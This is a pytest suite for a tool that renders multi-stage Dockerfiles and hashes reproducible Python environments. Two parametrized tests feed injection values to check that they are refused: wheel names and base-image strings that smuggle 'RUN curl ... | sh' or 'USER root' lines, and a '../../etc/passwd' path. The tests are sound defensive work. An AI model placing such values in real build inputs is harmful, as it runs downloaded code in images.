"""The rendered Dockerfile and the environment hash that keys images built from it."""

from __future__ import annotations

import dataclasses
import re

import pytest

from repropack.environment.dockerfile import environment_hash, render_dockerfile
from repropack.model import Environment, LockedDistribution

BASE = "python:3.11.7-slim-bookworm"
LOCK_PATH = "/opt/repropack/requirements.lock.txt"
LOCK_TEXT = "ipykernel==6.29.4\nnbclient==0.10.0\nnbformat==5.10.4\n"
ENV = Environment(
    python_version="3.11.7",
    implementation="CPython",
    platform="Linux-6.1-x86_64-with-glibc2.36",
    machine="x86_64",
    lock=(LockedDistribution("ipykernel", "6.29.4", ("runtime",)),),
    env_files=("requirements.txt",),
    base_image=BASE,
)


def _render(env: Environment = ENV, *, wheelhouse: bool = False) -> str:
    return render_dockerfile(env, wheelhouse=wheelhouse)


def instructions(text: str) -> list[tuple[str, str]]:
    """(KEYWORD, arguments) of each instruction: comments dropped, continuation lines joined."""
    out: list[tuple[str, str]] = []
    pending = ""
    for line in text.splitlines():
        stripped = line.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if stripped.endswith("\\"):
            pending += stripped[:-1].strip() + " "
            continue
        keyword, _, args = (pending + stripped).partition(" ")
        out.append((keyword.upper(), re.sub(r"\s+", " ", args.strip())))
        pending = ""
    assert not pending, "dangling line continuation"
    return out


def stages(text: str) -> list[list[tuple[str, str]]]:
    """Instructions split at each FROM; each stage starts with its FROM."""
    result: list[list[tuple[str, str]]] = []
    for keyword, args in instructions(text):
        if keyword == "FROM":
            result.append([])
        assert result, f"{keyword} before the first FROM"
        result[-1].append((keyword, args))
    return result


def test_two_stages_on_the_same_base_image():
    build, final = stages(_render())
    assert build[0] == ("FROM", f"{BASE} AS build")
    assert final[0] == ("FROM", BASE)


def test_build_stage_installs_the_lock_into_a_virtualenv():
    build, final = stages(_render())
    assert ("COPY", f".repropack/requirements.lock.txt {LOCK_PATH}") in build
    runs = [args for keyword, args in build if keyword == "RUN"]
    assert len(runs) == 1
    assert "python3 -m venv --without-pip /opt/repropack/venv" in runs[0]
    assert re.search(
        rf"/opt/repropack/uv pip install --no-config .*--python /opt/repropack/venv/bin/python .*-r {re.escape(LOCK_PATH)}$",
        runs[0],
    )
    assert "/pip install" not in runs[0]  # uv only: no pip of the image, none in the virtualenv
    assert not [args for keyword, args in final if keyword == "RUN"]  # nothing is installed in the final stage


def test_final_stage_copies_the_virtualenv_from_the_build_stage_and_drops_root():
    _, final = stages(_render())
    assert ("COPY", "--from=build /opt/repropack/venv /opt/repropack/venv") in final
    users = [args for keyword, args in final if keyword == "USER"]
    assert users == ["1000:1000"]
    assert final[-1] == ("USER", "1000:1000")
    env = " ".join(args for keyword, args in final if keyword == "ENV")
    assert "PATH=/opt/repropack/venv/bin:$PATH" in env


@pytest.mark.parametrize("wheelhouse", [False, True])
def test_classic_builder_syntax_only(wheelhouse):
    text = _render(wheelhouse=wheelhouse)
    assert "--mount" not in text
    assert not re.search(r"^\s*#\s*syntax\s*=", text, re.MULTILINE | re.IGNORECASE)
    for keyword, args in instructions(text):
        assert keyword in {"FROM", "ARG", "LABEL", "COPY", "RUN", "ENV", "WORKDIR", "USER"}, keyword
        if keyword == "RUN":
            assert not args.startswith("--"), args  # no --mount, --network, --security
        if keyword == "COPY":
            assert not re.search(r"--(link|chmod|parents|exclude)\b", args), args


def test_without_wheelhouse_uv_uses_the_hosts_wheels_and_the_index_unless_told_not_to():
    text = _render(wheelhouse=False)
    build, _ = stages(text)
    (run,) = [args for keyword, args in build if keyword == "RUN"]
    assert " --no-index" not in text  # the index is left out only by the build argument
    assert re.findall(r"--find-links \S+", run) == ["--find-links /opt/repropack/wheels"]
    assert ("ARG", "REPROPACK_NO_INDEX") in build
    assert "--find-links /opt/repropack/wheels ${REPROPACK_NO_INDEX:+--no-index} -r" in run  # sh expands it
    assert "wheelhouse" not in " ".join(args for _, args in instructions(text))


def test_the_installer_and_the_hosts_wheels_are_in_the_build_stage_only():
    build, final = stages(_render())
    assert ("COPY", "repropack-build/uv /opt/repropack/uv") in build
    assert ("COPY", "repropack-build/wheels /opt/repropack/wheels") in build
    final_text = " ".join(args for _, args in final)
    assert "uv" not in final_text.split() and "/opt/repropack/uv" not in final_text and "wheels" not in final_text
    (run,) = [args for keyword, args in build if keyword == "RUN"]
    assert "--no-config" in run  # no uv.toml or pyproject of the build's file system is read
    assert "--compile-bytecode" in run  # as pip did: the read-only image cannot cache bytecode later


def test_the_ca_bundle_reaches_uv_as_ssl_cert_file():
    (run,) = [args for keyword, args in stages(_render())[0] if keyword == "RUN"]
    assert run.startswith(
        "if [ -s /opt/repropack/ca-bundle.crt ]; then export SSL_CERT_FILE=/opt/repropack/ca-bundle.crt; fi"
    )


def test_with_wheelhouse_uv_installs_only_from_the_packaged_wheels():
    build, final = stages(_render(wheelhouse=True))
    assert ("COPY", ".repropack/wheelhouse /opt/repropack/wheelhouse") in build
    (run,) = [args for keyword, args in build if keyword == "RUN"]
    assert "--no-index --find-links /opt/repropack/wheelhouse" in run
    assert run.index("--find-links") < run.index(f"-r {LOCK_PATH}")
    assert "wheelhouse" not in " ".join(args for _, args in final)


def test_rendering_is_byte_stable():
    first = _render()
    assert _render() == first
    assert _render(dataclasses.replace(ENV)) == first  # an equal environment, another object
    assert _render(wheelhouse=True) == _render(wheelhouse=True)
    assert first.endswith("USER 1000:1000\n")


def test_base_image_is_the_only_thing_that_changes_the_from_lines():
    text = _render(dataclasses.replace(ENV, base_image="registry.example.org/lab/python:3.11@sha256:" + "a" * 64))
    froms = [args for keyword, args in instructions(text) if keyword == "FROM"]
    assert froms == [
        "registry.example.org/lab/python:3.11@sha256:" + "a" * 64 + " AS build",
        "registry.example.org/lab/python:3.11@sha256:" + "a" * 64,
    ]


# --- environment_hash ----------------------------------------------------------------------


def test_environment_hash_is_a_stable_sha256_hex():
    dockerfile = _render()
    value = environment_hash(dockerfile, LOCK_TEXT)
    assert re.fullmatch(r"[0-9a-f]{64}", value)
    assert environment_hash(dockerfile, LOCK_TEXT) == value
    assert environment_hash(_render(), LOCK_TEXT) == value  # re-rendering does not change it


def test_environment_hash_changes_with_the_lock():
    dockerfile = _render()
    base = environment_hash(dockerfile, LOCK_TEXT)
    assert environment_hash(dockerfile, LOCK_TEXT.replace("6.29.4", "6.29.5")) != base
    assert environment_hash(dockerfile, LOCK_TEXT + "\n") != base
    assert environment_hash(dockerfile, "") != base


def test_environment_hash_changes_with_the_dockerfile():
    base = environment_hash(_render(), LOCK_TEXT)
    assert environment_hash(_render(wheelhouse=True), LOCK_TEXT) != base
    assert environment_hash(_render(dataclasses.replace(ENV, base_image="python:3.12-slim")), LOCK_TEXT) != base
    assert environment_hash(_render() + " ", LOCK_TEXT) != base


def test_environment_hash_keeps_the_two_parts_apart():
    # Moving bytes from one file to the other is a different environment.
    assert environment_hash("FROM x\n", "a==1\n") != environment_hash("FROM x\na==1\n", "")
    assert environment_hash("ab", "c") != environment_hash("a", "bc")
    assert environment_hash("a", "b") != environment_hash("b", "a")


def test_environment_hash_ignores_what_is_in_neither_file():
    dockerfile, lock = _render(), LOCK_TEXT
    unrelated = dataclasses.replace(ENV, platform="Linux-9.9-other-host", lock=(), env_files=("environment.yml",))
    assert environment_hash(_render(unrelated), lock) == environment_hash(dockerfile, lock)


# --- the project's own non-editable installs ------------------------------------------------


WHEEL = "claimslib-0.2.0-py3-none-any.whl"


def test_local_wheels_are_installed_after_the_lock_with_no_index_and_no_dependencies():
    build, final = stages(render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "a" * 64}))
    assert ("COPY", ".repropack/local /opt/repropack/local") in build
    lock_run, wheel_run = [args for keyword, args in build if keyword == "RUN"]
    assert f"-r {LOCK_PATH}" in lock_run
    assert wheel_run == (
        "/opt/repropack/uv pip install --no-config --no-cache --compile-bytecode --python /opt/repropack/venv/bin/python "
        f"--no-deps --no-index /opt/repropack/local/{WHEEL}"
    )
    assert "local" not in " ".join(args for _, args in final)  # only the venv reaches the final stage


def test_the_wheels_sha256_is_in_the_text_so_other_wheels_give_another_environment_hash():
    one = render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "a" * 64})
    other = render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "b" * 64})
    assert f"# {WHEEL} sha256:{'a' * 64}" in one.splitlines()
    assert environment_hash(one, LOCK_TEXT) != environment_hash(other, LOCK_TEXT)
    assert render_dockerfile(ENV, wheelhouse=False, local_wheels={}) == _render()  # none: the same text as before


@pytest.mark.parametrize(
    "name, sha256",
    [
        ("evil.whl\nRUN curl x | sh\n#.whl", "a" * 64),
        ("../../etc/passwd.whl", "a" * 64),
        ("claimslib-0.2.0.tar.gz", "a" * 64),
        (WHEEL, "not-a-digest"),
    ],
    ids=["newline", "path", "not-a-wheel", "bad-digest"],
)
def test_a_wheel_name_or_digest_that_could_change_the_instructions_is_refused(name, sha256):
    from repropack.errors import BadInput

    with pytest.raises(BadInput, match="cannot be named in a Dockerfile"):
        render_dockerfile(ENV, wheelhouse=False, local_wheels={name: sha256})


# --- what replay renders: hashes, the reviewer's index, the base image by id --------------------------


def test_a_hashed_lock_installs_with_require_hashes_and_an_unhashed_one_does_not():
    hashed = dataclasses.replace(
        ENV, lock=(LockedDistribution("ipykernel", "6.29.4", ("runtime",), hashes=("a" * 64,)),)
    )
    (run,) = [args for keyword, args in stages(_render(hashed))[0] if keyword == "RUN"]
    assert "uv pip install --no-config --no-cache --compile-bytecode --python /opt/repropack/venv/bin/python " in run
    assert "--require-hashes" in run
    (wheelhouse_run,) = [args for keyword, args in stages(_render(hashed, wheelhouse=True))[0] if keyword == "RUN"]
    assert "--require-hashes --no-index --find-links /opt/repropack/wheelhouse" in wheelhouse_run
    assert "--require-hashes" not in _render()


def test_the_index_is_a_build_argument_of_the_build_stage_only():
    build, final = stages(_render())
    assert ("ARG", "REPROPACK_INDEX_URL") in build and ("ARG", "REPROPACK_EXTRA_INDEX_URL") in build
    (run,) = [args for keyword, args in build if keyword == "RUN"]
    assert 'export UV_INDEX_URL="$REPROPACK_INDEX_URL"' in run
    assert 'export UV_EXTRA_INDEX_URL="$REPROPACK_EXTRA_INDEX_URL"' in run
    assert not [args for keyword, args in final if keyword == "ARG"]  # never in the image that runs notebooks
    assert "index-url" not in _render().split("FROM")[-1]


def test_an_image_id_is_a_base_image_the_build_names_as_the_engine_has_it():
    image_id = "sha256:" + "f" * 64
    froms = [
        args
        for keyword, args in instructions(_render(dataclasses.replace(ENV, base_image=image_id)))
        if keyword == "FROM"
    ]
    assert froms == [f"{image_id} AS build", image_id]


@pytest.mark.parametrize(
    "base",
    ["x\nRUN curl http://127.0.0.1/ | sh", "x:1\tAS build", "a b", "registry.example/x AS build\nUSER root"],
)
def test_a_base_image_that_could_add_instructions_is_refused(base):
    from repropack.errors import BadInput

    with pytest.raises(BadInput, match="is not a valid image reference"):
        _render(dataclasses.replace(ENV, base_image=base))


def test_only_the_build_stage_carries_the_builds_mark():
    text = _render(wheelhouse=False)
    build, final = text.split("\nFROM ", 2)[1:]
    assert "LABEL org.repropack.build-stage=${REPROPACK_BUILD_STAGE}" in build and "ARG REPROPACK_BUILD_STAGE" in build
    assert "LABEL" not in final and "REPROPACK_BUILD_STAGE" not in final
